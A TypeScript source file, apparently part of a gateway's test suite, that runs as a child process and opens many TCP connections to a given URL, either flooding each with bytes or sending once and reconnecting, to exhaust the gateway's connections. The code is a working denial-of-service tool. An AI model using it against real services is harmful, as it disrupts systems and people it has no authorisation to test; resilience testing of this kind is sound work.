/** A program that attacks a gateway, in a process of its own, until it is killed. */
import { connect, type Socket } from 'node:net';

export interface AttackPlan {
  readonly url: string;
  readonly connections: number;
  /** What every connection sends once it is open: over and over again when it reads nothing, else once. */
  readonly bytes: string;
  readonly reads: boolean;
}

const plan: AttackPlan = JSON.parse(process.argv[2] ?? '');
const { hostname, port } = new URL(plan.url);
/** Not at once: opening connections as fast as they can be refused is another attack. */
const againAfterMs = 1_000;

let opened = 0;

function attack(): void {
  const socket = connect(Number(port), hostname);
  socket.on('error', () => {});
  socket.on('close', () => setTimeout(attack, againAfterMs));
  socket.on('connect', () => {
    opened += 1;
    if (opened === plan.connections) process.send?.('attacking');
    if (plan.reads) sendOnce(socket);
    else flood(socket);
  });
}

/** Whatever the answer is, the attacker comes again. */
function sendOnce(socket: Socket): void {
  socket.write(plan.bytes);
  socket.on('data', () => setTimeout(() => socket.destroy(), againAfterMs));
}

function flood(socket: Socket): void {
  socket.pause();
  const writeOn = () => {
    while (socket.write(plan.bytes));
  };
  socket.on('drain', writeOn);
  writeOn();
}

for (let count = 0; count < plan.connections; count += 1) attack();
